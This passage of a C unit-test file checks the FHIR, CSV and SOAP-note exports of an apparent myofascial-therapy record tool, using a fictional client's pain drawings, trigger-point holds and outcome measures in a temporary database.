/* test_export.c: the FHIR and CSV exports and the SOAP note, on a temporary SQLite record:
** a client with an intake (pain drawing), a later intake, one visit (the session log of
** docs/examples/session.json, its four holds, two palpated points, NPRS/PSFS/NDI/ROM) and the
** home program built from that log; the palpation findings read back as JSON.  Also writes
** build/fhir/bundle.json and build/fhir/bundle2.json for tests/fhir.mjs. */
#include <criterion/criterion.h>
#include <dirent.h>
#include <jansson.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "export.h"
#include "home.h"
#include "note.h"
#include "record.h"
#include "session.h"
#include "sheet.h"
#include "testdb.h"

static kb *k;
static store *db;
static char dir[64];

/* Run one SQL statement with text parameters (NULL-terminated list; "\1" stands for SQL NULL). */
static void sql(const char *q, ...) {
  store_args a;
  store_args_init(&a);
  va_list ap;
  va_start(ap, q);
  for (const char *v; (v = va_arg(ap, const char *));) store_arg_text(&a, strcmp(v, "\1") ? v : NULL);
  va_end(ap);
  cr_assert_eq(store_exec(db, q, &a, NULL), 0, "%s: %s", q, store_error(db));
}
#define NUL "\1"

static const char *psfs_item = "reading, \"small\" print";

static void fill(void) {
  sql("INSERT INTO therapist (id, name, created) VALUES (1, 'T', '2026-01-01T00:00:00Z')", NULL);
  sql("INSERT INTO client (id, therapist_id, name, birth, phone, email, consent, created, updated)"
      " VALUES (1, 1, 'Anna Berg', '1980-05-14', '+31 6 1234 5678', 'anna@example.org', 1,"
      " '2026-11-01T08:00:00Z', '2026-11-20T09:00:00Z')", NULL);
  sql("INSERT INTO intake (id, client_id, date, goals, factors, desk_hours, sleep_hours, stress, onset, created)"
      " VALUES (1, 1, '2026-11-01', 'work at the computer without headaches', 'desk-work stress', 8, 6.5, 7,"
      " 'gradual', '2026-11-01T08:10:00Z')", NULL);
  sql("INSERT INTO pain (intake_id, region, intensity, quality) VALUES (1, 'temple-l', 6, 'ache')", NULL);
  sql("INSERT INTO pain (intake_id, region, intensity, quality) VALUES (1, 'neck-side-l', 4, NULL)", NULL);
  /* A later intake: after the visit, so its drawing is not the visit's. */
  sql("INSERT INTO intake (id, client_id, date, goals, created) VALUES (2, 1, '2026-11-30', 'run again',"
      " '2026-11-30T08:00:00Z')", NULL);
  sql("INSERT INTO pain (intake_id, region, intensity, quality) VALUES (2, 'calf-r', 3, 'ache')", NULL);
  char *log;
  size_t len;
  cr_assert_eq(util_read_file("docs/examples/session.json", &log, &len), 0, "run from the repository root");
  sql("INSERT INTO visit (id, client_id, therapist_id, date, started, log, pain_pre, pain_post, created)"
      " VALUES (1, 1, 1, '2026-11-22', '2026-11-22T10:00:00Z', $1, 6, 3, '2026-11-22T10:06:00Z')", log, NULL);
  /* The holds of that log. */
  sql("INSERT INTO treatment VALUES (1, 1, 'release', 'upper-trapezius', 'upper-trapezius-tp1', 'l',"
      " 'ischemic-compression', 35, 'released', NULL, 1)", NULL);
  sql("INSERT INTO treatment VALUES (1, 2, 'release', 'levator-scapulae', 'levator-scapulae-upper', 'l',"
      " 'ischemic-compression', 41, 'released', NULL, 0)", NULL);
  sql("INSERT INTO treatment VALUES (1, 3, 'release', 'gastrocnemius', 'gastrocnemius-tp1', 'r',"
      " 'ischemic-compression', 19, 'stopped', 'tingling', 0)", NULL);
  sql("INSERT INTO treatment VALUES (1, 4, 'stretch', 'upper-trapezius', NULL, 'l', 'pin-and-stretch', 30,"
      " 'released', NULL, 0)", NULL);
  sql("INSERT INTO assessment (client_id, visit_id, date, muscle, tp, side, state, referral, ppt, created)"
      " VALUES (1, 1, '2026-11-22', 'upper-trapezius', 'upper-trapezius-tp1', 'l', 'active', 1, 2.5,"
      " '2026-11-22T10:01:00Z')", NULL);
  sql("INSERT INTO assessment (client_id, visit_id, date, muscle, tp, side, state, referral, ppt, created)"
      " VALUES (1, 1, '2026-11-22', 'gastrocnemius', 'gastrocnemius-tp1', 'r', 'latent', 0, NULL,"
      " '2026-11-22T10:01:30Z')", NULL);
  static const char *const m[][5] = {
    /* date, kind, item, value, visit */
    {"2026-11-01", "nprs", "", "8", NUL},
    {"2026-11-22", "nprs", "pre", "6", "1"},
    {"2026-11-22", "nprs", "post", "3", "1"},
    {"2026-11-22", "psfs", NULL, "4", "1"},
    {"2026-11-22", "ndi", "", "18", "1"},
    {"2026-11-22", "rom", "cervical:rotation-l", "70", "1"},
    {"2026-11-22", "rom", "jaw:opening", "38", "1"},
  };
  for (size_t i = 0; i < sizeof m / sizeof m[0]; i++)
    sql("INSERT INTO measure (client_id, visit_id, date, kind, item, value, created)"
        " VALUES (1, $1, $2, $3, $4, $5, '2026-11-22T10:05:00Z')",
        m[i][4], m[i][0], m[i][1], m[i][2] ? m[i][2] : psfs_item, m[i][3], NULL);
  /* The home program of the session, as myomap writes it. */
  session_summary sum;
  char err[256];
  cr_assert_eq(session_read(k, log, len, &sum, err, sizeof err), 0, "%s", err);
  home h;
  home_build(k, &sum.in, sum.stopped, &h);
  buf prog;
  buf_init(&prog);
  sheet_home_json(&prog, k, &h);
  sql("INSERT INTO homeprog (client_id, visit_id, date, program, created)"
      " VALUES (1, 1, '2026-11-22', $1, '2026-11-22T10:06:00Z')", prog.data, NULL);
  buf_free(&prog);
  free(log);
  /* A second client: "Family, Given" name, partial birth date, a decimal NPRS, an unknown region. */
  sql("INSERT INTO client (id, name, birth, created, updated)"
      " VALUES (2, 'Berg, Anna Maria', '1975-03', '2026-10-01T08:00:00Z', '2026-10-01T08:00:00Z')", NULL);
  sql("INSERT INTO measure (client_id, date, kind, item, value, created)"
      " VALUES (2, '2026-10-01', 'nprs', '', 4.5, '2026-10-01T08:00:00Z')", NULL);
  sql("INSERT INTO intake (id, client_id, date, created) VALUES (3, 2, '2026-10-01', '2026-10-01T08:00:00Z')", NULL);
  sql("INSERT INTO pain (intake_id, region, intensity) VALUES (3, 'elsewhere', 2)", NULL);
}

static void setup(void) {
  k = test_kb();
  strcpy(dir, "/tmp/myomap-export-XXXXXX");
  cr_assert(mkdtemp(dir));
  char path[128], err[512];
  snprintf(path, sizeof path, "%s/db/myomap.db", dir);
  cr_assert_eq(store_open(&db, path, err, sizeof err), 0, "%s", err);
  fill();
}

static void rm_tree(const char *d) {
  DIR *dd = opendir(d);
  if (!dd) return;
  for (struct dirent *e; (e = readdir(dd));) {
    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
    char p[512];
    snprintf(p, sizeof p, "%s/%s", d, e->d_name);
    struct stat st;
    if (!lstat(p, &st) && S_ISDIR(st.st_mode)) rm_tree(p);
    else unlink(p);
  }
  closedir(dd);
  rmdir(d);
}

static void teardown(void) {
  store_close(db);
  rm_tree(dir);
  kb_free(k);
}
TestSuite(export, .init = setup, .fini = teardown);

/* ---- FHIR helpers ---- */

static json_t *bundle_of(long client) {
  buf out;
  buf_init(&out);
  char err[256] = "";
  cr_assert_eq(export_fhir(db, k, client, &out, err, sizeof err), 0, "%s", err);
  json_error_t je;
  json_t *j = json_loads(out.data, 0, &je);
  cr_assert(j, "not JSON: %s", je.text);
  buf_free(&out);
  return j;
}

static int count_type(json_t *b, const char *type) {
  size_t i;
  json_t *e;
  int n = 0;
  json_array_foreach(json_object_get(b, "entry"), i, e)
    if (!strcmp(json_string_value(json_object_get(json_object_get(e, "resource"), "resourceType")), type)) n++;
  return n;
}

/* The value at "a.b.0.c" (objects by key, arrays by index), or NULL. */
static json_t *jget(json_t *o, const char *path) {
  char p[256], *save = NULL;
  snprintf(p, sizeof p, "%s", path);
  for (char *t = strtok_r(p, ".", &save); t && o; t = strtok_r(NULL, ".", &save))
    o = json_is_array(o) ? json_array_get(o, (size_t)atoi(t)) : json_object_get(o, t);
  return o;
}
static const char *sget(json_t *o, const char *path) { return json_string_value(jget(o, path)); }

/* The pain-drawing Observation of region `id`. */
static json_t *region_obs(json_t *b, const char *id) {
  size_t i;
  json_t *e;
  json_array_foreach(json_object_get(b, "entry"), i, e) {
    json_t *r = json_object_get(e, "resource");
    const char *text = sget(r, "bodySite.text"), *code = sget(r, "bodySite.coding.0.code");
    if ((code && !strcmp(code, id)) || (text && !strcmp(text, id))) return r;
  }
  return NULL;
}

/* ---- FHIR ---- */

Test(export, fhir_bundle_holds_patient_observations_and_procedures) {
  json_t *b = bundle_of(1);
  cr_expect_str_eq(sget(b, "resourceType"), "Bundle");
  cr_expect_str_eq(sget(b, "type"), "collection");
  cr_expect(sget(b, "id"));
  cr_expect_str_eq(sget(b, "timestamp"), "2026-11-30T08:00:00Z", "the latest write to the record");
  /* 1 patient, 7 measures + 3 pain-drawing regions, 4 holds */
  cr_expect_eq(json_array_size(json_object_get(b, "entry")), 15);
  cr_expect_eq(count_type(b, "Patient"), 1);
  cr_expect_eq(count_type(b, "Observation"), 10);
  cr_expect_eq(count_type(b, "Procedure"), 4, "one Procedure per treatment row");
  json_t *p = jget(b, "entry.0.resource");
  cr_expect_str_eq(sget(p, "resourceType"), "Patient");
  cr_expect_str_eq(sget(p, "name.0.text"), "Anna Berg");
  cr_expect_str_eq(sget(p, "name.0.family"), "Berg");
  cr_expect_str_eq(sget(p, "name.0.given.0"), "Anna");
  cr_expect_str_eq(sget(p, "birthDate"), "1980-05-14");
  cr_expect_str_eq(sget(p, "telecom.0.system"), "phone");
  cr_expect_str_eq(sget(p, "telecom.1.value"), "anna@example.org");
  json_decref(b);
}

Test(export, fhir_nprs_is_loinc_72514_3_and_no_other_loinc_code_is_claimed) {
  json_t *b = bundle_of(1);
  size_t i;
  json_t *e;
  int nprs = 0, pre = 0;
  json_array_foreach(json_object_get(b, "entry"), i, e) {
    json_t *r = json_object_get(e, "resource");
    const char *sys = sget(r, "code.coding.0.system");
    if (sys && !strcmp(sys, "http://loinc.org")) {
      cr_expect_str_eq(sget(r, "code.coding.0.code"), "72514-3");
      cr_expect_str_eq(sget(r, "code.coding.0.display"), "Pain severity - 0-10 verbal numeric rating [Score] - Reported");
      cr_expect_str_eq(sget(r, "status"), "final");
      cr_expect_str_eq(sget(r, "category.0.coding.0.code"), "survey");
      cr_expect(json_is_integer(json_object_get(r, "valueInteger")));
      cr_expect(sget(r, "effectiveDateTime"));
      if (!jget(r, "bodySite")) nprs++;
      const char *note = sget(r, "note.0.text");
      if (note && !strcmp(note, "Before treatment")) {
        pre++;
        cr_expect_eq(json_integer_value(json_object_get(r, "valueInteger")), 6);
      }
    } else if (!strcmp(sget(r, "resourceType"), "Observation")) {
      cr_expect(sget(r, "code.text"), "PSFS, NDI and ROM carry code.text, not an invented code");
      cr_expect_null(jget(r, "code.coding"));
    }
  }
  cr_expect_eq(nprs, 3);
  cr_expect_eq(pre, 1);
  json_decref(b);
}

Test(export, fhir_pain_drawing_has_coded_body_site_with_label_and_side) {
  json_t *b = bundle_of(1);
  json_t *t = region_obs(b, "temple-l");
  cr_assert(t);
  cr_expect_str_eq(sget(t, "bodySite.coding.0.system"), EXPORT_REGION_SYSTEM);
  cr_expect_str_eq(sget(t, "bodySite.text"), "temple, left");
  cr_expect_str_eq(sget(t, "code.coding.0.code"), "72514-3");
  cr_expect_eq(json_integer_value(json_object_get(t, "valueInteger")), 6);
  cr_expect_str_eq(sget(t, "effectiveDateTime"), "2026-11-01");
  cr_expect_str_eq(sget(t, "note.0.text"), "Quality: ache");
  json_t *n = region_obs(b, "neck-side-l");
  cr_assert(n);
  cr_expect_str_eq(sget(n, "bodySite.text"), "side of the neck, left");
  json_decref(b);
  b = bundle_of(2);  /* a region id this body model does not know: text only, not coded */
  json_t *x = region_obs(b, "elsewhere");
  cr_assert(x);
  cr_expect_null(jget(x, "bodySite.coding"));
  json_decref(b);
}

Test(export, fhir_rom_units_and_psfs_text) {
  json_t *b = bundle_of(1);
  size_t i;
  json_t *e;
  int rom = 0;
  json_array_foreach(json_object_get(b, "entry"), i, e) {
    json_t *r = json_object_get(e, "resource");
    const char *text = sget(r, "code.text");
    if (!text) continue;
    if (strstr(text, "jaw:opening")) { rom++; cr_expect_str_eq(sget(r, "valueQuantity.code"), "mm"); }
    if (strstr(text, "cervical:rotation-l")) {
      rom++;
      cr_expect_str_eq(sget(r, "valueQuantity.code"), "deg");
      cr_expect_str_eq(sget(r, "category.0.coding.0.code"), "exam");
    }
    if (strstr(text, "Patient-Specific")) cr_expect(strstr(text, psfs_item), "%s", text);
  }
  cr_expect_eq(rom, 2);
  json_decref(b);
}

Test(export, fhir_procedure_per_hold) {
  json_t *b = bundle_of(1);
  json_t *p = jget(b, "entry.11.resource");  /* the first hold comes after patient and observations */
  cr_assert_str_eq(sget(p, "resourceType"), "Procedure");
  cr_expect_str_eq(sget(p, "status"), "completed");
  cr_expect_str_eq(sget(p, "performedDateTime"), "2026-11-22T10:00:00Z");
  cr_expect_str_eq(sget(p, "code.text"), kb_term_at(k, KB_TECHNIQUE, kb_find_term(k, KB_TECHNIQUE, "ischemic-compression"))->label);
  cr_expect_str_eq(sget(p, "bodySite.0.text"), "upper trapezius, left");
  cr_expect(strstr(sget(p, "note.0.text"), "Outcome: released"), "%s", sget(p, "note.0.text"));
  cr_expect(strstr(sget(p, "note.0.text"), "Held 35 s"));
  json_t *stopped = jget(b, "entry.13.resource");
  cr_expect_str_eq(sget(stopped, "bodySite.0.text"), "gastrocnemius, right");
  cr_expect(strstr(sget(stopped, "note.0.text"), "stopped (tingling)"), "%s", sget(stopped, "note.0.text"));
  cr_expect_str_eq(sget(stopped, "status"), "stopped", "a hold stopped for tingling is a stopped procedure");
  json_decref(b);
}

static int uuid_v5(const char *s) {
  if (strlen(s) != 36 || s[14] != '5' || !strchr("89ab", s[19])) return 0;
  for (int i = 0; i < 36; i++)
    if ((i == 8 || i == 13 || i == 18 || i == 23) ? s[i] != '-' : !strchr("0123456789abcdef", s[i])) return 0;
  return 1;
}

Test(export, fhir_references_are_uuids_that_resolve_within_the_bundle) {
  json_t *b = bundle_of(1);
  size_t i, j;
  json_t *e, *f;
  json_t *entries = json_object_get(b, "entry");
  json_array_foreach(entries, i, e) {
    const char *url = sget(e, "fullUrl");
    cr_assert(url && !strncmp(url, "urn:uuid:", 9), "%s", url);
    cr_expect(uuid_v5(url + 9), "%s", url);
    cr_expect_str_eq(url + 9, sget(e, "resource.id"));
    json_array_foreach(entries, j, f)
      if (j != i) cr_expect_str_neq(url, sget(f, "fullUrl"), "fullUrls are unique");
    const char *ref = sget(e, "resource.subject.reference");
    if (!ref) { cr_expect_str_eq(sget(e, "resource.resourceType"), "Patient"); continue; }
    int found = 0;
    json_array_foreach(entries, j, f)
      if (!strcmp(ref, sget(f, "fullUrl"))) {
        found = 1;
        cr_expect_str_eq(sget(f, "resource.resourceType"), "Patient");
      }
    cr_expect(found, "%s does not resolve", ref);
  }
  char u[37];
  export_uuid(u, "Patient/1");
  cr_expect_str_eq(sget(b, "entry.0.resource.id"), u, "the Patient's id is derived from its row id");
  /* UUID v5 of the URL https://myomap.org/fhir/Patient/1 (Python: uuid.uuid5(NAMESPACE_URL, ...)) */
  cr_expect_str_eq(u, "9e3acb1f-a789-5f26-95e4-c3cc568911db");
  json_decref(b);
}

Test(export, fhir_is_byte_for_byte_reproducible_and_written_for_the_validator) {
  buf a, b;
  buf_init(&a);
  buf_init(&b);
  char err[256];
  cr_assert_eq(export_fhir(db, k, 1, &a, err, sizeof err), 0, "%s", err);
  cr_assert_eq(export_fhir(db, k, 1, &b, err, sizeof err), 0, "%s", err);
  cr_expect_eq(a.len, b.len);
  cr_expect(a.len == b.len && !memcmp(a.data, b.data, a.len), "two exports of the same record differ");
  /* Samples for tests/fhir.mjs (node tests/fhir.mjs build/fhir/bundle.json ...). */
  mkdir("build", 0755);
  mkdir("build/fhir", 0755);
  FILE *f = fopen("build/fhir/bundle.json", "w");
  cr_assert(f);
  fwrite(a.data, 1, a.len, f);
  fclose(f);
  buf_reset(&b);
  cr_assert_eq(export_fhir(db, k, 2, &b, err, sizeof err), 0, "%s", err);
  f = fopen("build/fhir/bundle2.json", "w");
  cr_assert(f);
  fwrite(b.data, 1, b.len, f);
  fclose(f);
  buf_free(&a);
  buf_free(&b);
}

Test(export, fhir_second_client_name_partial_birth_and_decimal_nprs) {
  json_t *b = bundle_of(2);
  json_t *p = jget(b, "entry.0.resource");
  cr_expect_str_eq(sget(p, "name.0.family"), "Berg");
  cr_expect_str_eq(sget(p, "name.0.given.1"), "Maria");
  cr_expect_str_eq(sget(p, "birthDate"), "1975-03");
  cr_expect_null(jget(p, "telecom"), "no empty telecom");
  json_t *o = jget(b, "entry.1.resource");
  cr_expect_null(jget(o, "valueInteger"));
  cr_expect_float_eq(json_real_value(jget(o, "valueQuantity.value")), 4.5, 1e-9);
  cr_expect_str_eq(sget(o, "valueQuantity.code"), "{score}");
  json_decref(b);
}

Test(export, fhir_errors_name_the_row) {
  buf out;
  buf_init(&out);
  char err[256] = "";
  cr_expect_eq(export_fhir(db, k, 99, &out, err, sizeof err), -1);
  cr_expect_str_eq(err, "client 99 not found");
  cr_expect_eq(out.len, 0);
  sql("INSERT INTO client (id, name, birth, created, updated) VALUES (3, 'Bad Date', '1980-13-45',"
      " '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')", NULL);
  cr_expect_eq(export_fhir(db, k, 3, &out, err, sizeof err), -1);
  cr_expect(strstr(err, "client 3") && strstr(err, "1980-13-45"), "%s", err);
  cr_expect_eq(out.len, 0, "nothing written on error");
  buf_free(&out);
}

/* ---- CSV ---- */

/* Split RFC 4180 text into records of fields; returns the record count, fields into f[r][c]. */
static int csv_parse(const char *s, char f[][6][128], int maxrec, int *ncols) {
  int r = 0, c = 0;
  size_t n = 0;
  while (*s && r < maxrec) {
    if (*s == '"') {
      for (s++; *s && !(*s == '"' && s[1] != '"'); s++) {
        if (*s == '"') s++;
        if (n < 127) f[r][c][n++] = *s;
      }
      if (*s) s++;
    }
    while (*s && *s != ',' && *s != '\r') { if (n < 127) f[r][c][n++] = *s; s++; }
    f[r][c][n] = 0;
    n = 0;
    if (*s == ',') { s++; c++; if (c >= 6) return -1; continue; }
    ncols[r] = c + 1;
    if (*s == '\r') s++;
    if (*s == '\n') s++;
    r++;
    c = 0;
  }
  return r;
}

Test(export, csv_header_rows_and_quoting) {
  buf out;
  buf_init(&out);
  char err[256];
  cr_assert_eq(export_csv(db, k, 1, &out, err, sizeof err), 0, "%s", err);
  cr_expect(!strncmp(out.data, "date,kind,item,value,unit,visit\r\n", 33), "%s", out.data);
  cr_expect(strstr(out.data, "\r\n2026-11-22,psfs,\"reading, \"\"small\"\" print\",4,0-10,1\r\n"), "%s", out.data);
  cr_expect(strstr(out.data, "\r\n2026-11-01,pain-drawing,temple-l,6,0-10,\r\n"));
  cr_expect(strstr(out.data, "\r\n2026-11-22,treatment,upper-trapezius/upper-trapezius-tp1:ischemic-compression,35,s,1\r\n"));
  cr_expect(strstr(out.data, "\r\n2026-11-22,treatment,upper-trapezius/:pin-and-stretch,30,s,1\r\n"));
  cr_expect(strstr(out.data, "\r\n2026-11-22,rom,jaw:opening,38,mm,1\r\n"));
  cr_expect(strstr(out.data, "\r\n2026-11-22,ndi,,18,0-50,1\r\n"));
  static char f[32][6][128];
  int ncols[32];
  int n = csv_parse(out.data, f, 32, ncols);
  cr_assert_eq(n, 15, "header + 7 measures + 3 pain-drawing regions + 4 holds");
  int psfs = 0;
  for (int r = 0; r < n; r++) {
    cr_expect_eq(ncols[r], 6, "record %d", r);
    if (r > 1) cr_expect_geq(strcmp(f[r][0], f[r - 1][0]), 0, "sorted by date at record %d", r);
    if (!strcmp(f[r][1], "psfs")) { psfs++; cr_expect_str_eq(f[r][2], psfs_item, "the quoted field reads back"); }
  }
  cr_expect_eq(psfs, 1);
  buf_free(&out);
  cr_expect_eq(export_csv(db, k, 42, &out, err, sizeof err), -1);
  cr_expect_str_eq(err, "client 42 not found");
}

/* ---- the SOAP note ---- */

Test(export, note_sections_say_what_they_should) {
  note n;
  char err[256];
  cr_assert_eq(note_build(db, k, 1, &n, err, sizeof err), 0, "%s", err);
  /* S: the drawing of the intake before the visit, not the later one; pain before; goals; factors */
  cr_expect(strstr(n.s, "Pain drawing (intake 2026-11-01): left temple 6/10 (ache); left side of the neck 4/10."), "%s", n.s);
  cr_expect_null(strstr(n.s, "calf"), "the intake after the visit is not used:\n%s", n.s);
  cr_expect(strstr(n.s, "Pain before treatment: 6/10"), "%s", n.s);
  cr_expect(strstr(n.s, "work at the computer without headaches"), "%s", n.s);
  cr_expect(strstr(n.s, kb_term_at(k, KB_ACTIVITY, kb_find_term(k, KB_ACTIVITY, "desk-work"))->label), "%s", n.s);
  cr_expect(strstr(n.s, "desk work 8 h a day") && strstr(n.s, "sleep 6.5 h a night") && strstr(n.s, "stress 7/10"), "%s", n.s);
  cr_expect(strstr(n.s, "(PSFS, 0-10, 10 = as before the problem): reading, \"small\" print: 4/10."), "%s", n.s);
  cr_expect(strstr(n.s, "Neck Disability Index: 18/50"), "%s", n.s);
  /* O: palpated points, ROM, holds, the recheck from the log */
  cr_expect(strstr(n.o, "left upper trapezius (TrP1") && strstr(n.o, ": active, recognised referral reproduced, PPT 2.5 kg/cm²"), "%s", n.o);
  cr_expect(strstr(n.o, ": latent, referral not reproduced."), "%s", n.o);
  cr_expect(strstr(n.o, "cervical:rotation-l 70 degrees") && strstr(n.o, "jaw:opening 38 mm"), "%s", n.o);
  cr_expect(strstr(n.o, "Treatment: 4 holds"), "%s", n.o);
  cr_expect(strstr(n.o, "35 s, released; recognised referral reproduced."), "%s", n.o);
  cr_expect(strstr(n.o, "19 s, stopped (tingling)"), "%s", n.o);
  cr_expect(strstr(n.o, "cervical rotation to the left 60 -> 80 degrees"), "the recheck from the session log:\n%s", n.o);
  /* A: pre -> post, outcome groups, change since the first rating */
  cr_expect(strstr(n.a, "Pain 6/10 before and 3/10 after the session: 3 points lower (50%)."), "%s", n.a);
  cr_expect(strstr(n.a, "Released: left upper trapezius (TrP1"), "%s", n.a);
  cr_expect(strstr(n.a, "left levator scapulae ("), "%s", n.a);
  cr_expect(strstr(n.a, "Stopped: right gastrocnemius (") && strstr(n.a, "), for tingling."), "%s", n.a);
  cr_expect(strstr(n.a, "Since the first pain rating (8/10 on 2026-11-01): pain before this session 6/10, 2 points lower "
                        "(25%); after it 3/10, 5 points lower (63%)."), "%s", n.a);
  /* P: the home program and the recheck */
  cr_expect(strstr(n.p, "Home program:\n- left upper trapezius: ball wall, hold 30-60 s"), "%s", n.p);
  cr_expect(strstr(n.p, "Left out of the home program: right gastrocnemius"), "%s", n.p);
  cr_expect(strstr(n.p, "Recheck at the next visit: pain (NPRS), the points treated today: left upper trapezius"), "%s", n.p);
  /* No diagnosis claims anywhere. */
  const char *all[] = {n.s, n.o, n.a, n.p};
  for (int i = 0; i < 4; i++) cr_expect_null(strstr(all[i], "iagnos"), "%s", all[i]);
  buf t;
  buf_init(&t);
  note_text(&t, &n);
  const char *s = strstr(t.data, "S (subjective)\n"), *o = strstr(t.data, "\nO (objective)\n");
  const char *a = strstr(t.data, "\nA (assessment)\n"), *p = strstr(t.data, "\nP (plan)\n");
  cr_expect(s == t.data && o > s && a > o && p > a, "%s", t.data);
  buf_free(&t);
  note_free(&n);
  cr_expect_null(n.s);
}

Test(export, note_save_stores_the_sections_and_missing_visits_fail) {
  note n;
  char err[256];
  cr_assert_eq(note_build(db, k, 1, &n, err, sizeof err), 0, "%s", err);
  cr_assert_eq(note_save(db, 1, &n, err, sizeof err), 0, "%s", err);
  store_rows r;
  store_args a;
  store_args_init(&a);
  cr_assert_eq(store_exec(db, "SELECT soap_s, soap_o, soap_a, soap_p FROM visit WHERE id = 1", &a, &r), 0);
  cr_expect_str_eq(store_cell(&r, 0, 0), n.s);
  cr_expect_str_eq(store_cell(&r, 0, 1), n.o);
  cr_expect_str_eq(store_cell(&r, 0, 2), n.a);
  cr_expect_str_eq(store_cell(&r, 0, 3), n.p);
  store_rows_free(&r);
  cr_expect_eq(note_save(db, 7, &n, err, sizeof err), -1);
  cr_expect_str_eq(err, "visit 7 not found");
  note_free(&n);
  cr_expect_eq(note_build(db, k, 7, &n, err, sizeof err), -1);
  cr_expect_str_eq(err, "visit 7 not found");
  cr_expect_null(n.s);
}

Test(export, note_without_intake_or_home_program_says_so) {
  sql("INSERT INTO visit (id, client_id, date, started, log, created)"
      " VALUES (2, 2, '2026-09-01', '2026-09-01T09:00:00Z', '{}', '2026-09-01T09:30:00Z')", NULL);
  note n;
  char err[256];
  cr_assert_eq(note_build(db, k, 2, &n, err, sizeof err), 0, "%s", err);
  cr_expect(strstr(n.s, "No intake on record on or before 2026-09-01."), "%s", n.s);
  cr_expect(strstr(n.s, "Pain before treatment: not rated."), "%s", n.s);
  cr_expect(strstr(n.o, "No holds recorded for this visit."), "%s", n.o);
  cr_expect(strstr(n.a, "No earlier pain rating to compare with."), "%s", n.a);
  cr_expect(strstr(n.p, "No home program recorded for this visit."), "%s", n.p);
  note_free(&n);
}

Test(export, note_on_the_first_rated_visit_calls_it_the_baseline) {
  sql("INSERT INTO visit (id, client_id, date, started, pain_pre, pain_post, log, created)"
      " VALUES (3, 2, '2026-09-15', '2026-09-15T09:00:00Z', 5, 2, '{}', '2026-09-15T09:30:00Z')", NULL);
  note n;
  char err[256];
  cr_assert_eq(note_build(db, k, 3, &n, err, sizeof err), 0, "%s", err);
  cr_expect(strstr(n.a, "Pain 5/10 before and 2/10 after the session: 3 points lower (60%)."), "%s", n.a);
  cr_expect(strstr(n.a, "This visit's 5/10 is the first pain rating on record: the baseline for progress."), "%s", n.a);
  cr_expect_null(strstr(n.a, "Since the first"), "%s", n.a);
  note_free(&n);
}

/* ---- palpation findings ---- */

Test(export, findings_list_newest_date_first_with_their_fields) {
  record_finding f[2];
  char err[256];
  cr_assert_eq(record_finding_parse(k, "upper-trapezius-tp1:l:latent", &f[0], err, sizeof err), 0, "%s", err);
  cr_assert_eq(record_finding_parse(k, "upper-trapezius-tp1:l:active:referral:ppt=3.1", &f[1], err, sizeof err), 0, "%s", err);
  /* an earlier day, stored after the visit's: without a visit, the same point twice (a correction) */
  cr_assert_eq(record_assess_add(db, k, 1, "2026-11-15", 0, &f[0], 1, err, sizeof err), 0, "%s", err);
  cr_assert_eq(record_assess_add(db, k, 1, "2026-11-15", 0, &f[1], 1, err, sizeof err), 0, "%s", err);
  buf out;
  buf_init(&out);
  cr_assert_eq(record_assess_list(db, 1, &out, err, sizeof err), 0, "%s", err);
  json_error_t je;
  json_t *j = json_loads(out.data, 0, &je);
  cr_assert(json_is_array(j), "not a JSON array: %s\n%s", je.text, out.data);
  cr_assert_eq(json_array_size(j), 4, "%s", out.data);
  /* the visit's day (fill()) first, the latest stored of a day first */
  cr_expect_str_eq(sget(j, "0.date"), "2026-11-22");
  cr_expect_eq(json_integer_value(jget(j, "0.visit")), 1, "%s", out.data);
  cr_expect_str_eq(sget(j, "0.muscle"), "gastrocnemius");
  cr_expect_str_eq(sget(j, "0.tp"), "gastrocnemius-tp1");
  cr_expect_str_eq(sget(j, "0.side"), "r");
  cr_expect_str_eq(sget(j, "0.state"), "latent");
  cr_expect(json_is_false(jget(j, "0.referral")) && json_is_null(jget(j, "0.ppt")), "%s", out.data);
  cr_expect_str_eq(sget(j, "1.tp"), "upper-trapezius-tp1");
  cr_expect(json_is_true(jget(j, "1.referral")), "%s", out.data);
  cr_expect_float_eq(json_number_value(jget(j, "1.ppt")), 2.5, 1e-9, "%s", out.data);
  /* then 2026-11-15: the correction before the finding it corrects */
  cr_expect_str_eq(sget(j, "2.date"), "2026-11-15");
  cr_expect(json_is_null(jget(j, "2.visit")), "%s", out.data);
  cr_expect_str_eq(sget(j, "2.muscle"), "upper-trapezius");
  cr_expect_str_eq(sget(j, "2.side"), "l");
  cr_expect_str_eq(sget(j, "2.state"), "active");
  cr_expect(json_is_true(jget(j, "2.referral")), "%s", out.data);
  cr_expect_float_eq(json_number_value(jget(j, "2.ppt")), 3.1, 1e-9, "%s", out.data);
  cr_expect_str_eq(sget(j, "3.state"), "latent");
  cr_expect(json_is_false(jget(j, "3.referral")) && json_is_null(jget(j, "3.ppt")), "%s", out.data);
  json_decref(j);
  /* a client without findings: an empty list; no such client: not found, nothing appended */
  buf_reset(&out);
  cr_expect_eq(record_assess_list(db, 2, &out, err, sizeof err), 0, "%s", err);
  cr_expect_str_eq(out.data, "[]");
  buf_reset(&out);
  cr_expect_eq(record_assess_list(db, 42, &out, err, sizeof err), RECORD_ENOTFOUND);
  cr_expect_str_eq(err, "no client 42");
  cr_expect_eq(out.len, 0);
  buf_free(&out);
}

Test(export, note_lists_a_point_palpated_twice_once_with_its_latest_finding) {
  sql("INSERT INTO assessment (client_id, visit_id, date, muscle, tp, side, state, referral, ppt, created)"
      " VALUES (1, 1, '2026-11-22', 'gastrocnemius', 'gastrocnemius-tp1', 'r', 'active', 1, 3.5,"
      " '2026-11-22T10:02:00Z')", NULL);
  note n;
  char err[256];
  cr_assert_eq(note_build(db, k, 1, &n, err, sizeof err), 0, "%s", err);
  cr_expect(strstr(n.o, ": active, recognised referral reproduced, PPT 3.5 kg/cm²"), "%s", n.o);
  cr_expect_null(strstr(n.o, ": latent, referral not reproduced."), "the earlier finding is replaced:\n%s", n.o);
  cr_expect(strstr(n.o, ": active, recognised referral reproduced, PPT 2.5 kg/cm²"), "the other point stays:\n%s", n.o);
  note_free(&n);
}

/* ---- SNOMED CT body sites (kb/snomed.tsv) ---- */

/* The SNOMED CT codings of a bodySite: the plain structure and the laterality expression. */
static void sct_codings(json_t *site, const char **plain, const char **lat) {
  *plain = *lat = NULL;
  size_t i;
  json_t *c;
  json_array_foreach(json_object_get(site, "coding"), i, c) {
    if (strcmp(sget(c, "system"), EXPORT_SNOMED_SYSTEM)) continue;
